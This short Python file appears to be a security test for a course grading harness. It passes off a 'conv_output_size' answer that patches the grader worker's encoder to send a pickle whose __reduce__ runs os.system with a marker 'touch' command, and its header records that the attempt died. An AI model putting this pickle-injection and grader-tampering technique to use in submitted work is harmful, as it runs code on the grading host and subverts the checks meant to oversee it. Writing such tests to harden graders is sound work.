# what: the worker's encoder exchanged in an answer for one that sends a pickle with a command in it
# lesson: 2
# zero: conv_output_size
# status: died
# %%
import os
import pickle
import sys


class Command:
    def __reduce__(self):
        return os.system, ("touch left-behind-by-an-attack",)


def conv_output_size(size, kernel_size, stride=1, padding=0, dilation=1):
    worker = sys.modules["course_utils.answers.inside.worker"]
    worker.encode = lambda *_, **__: pickle.dumps(Command())
    return 0
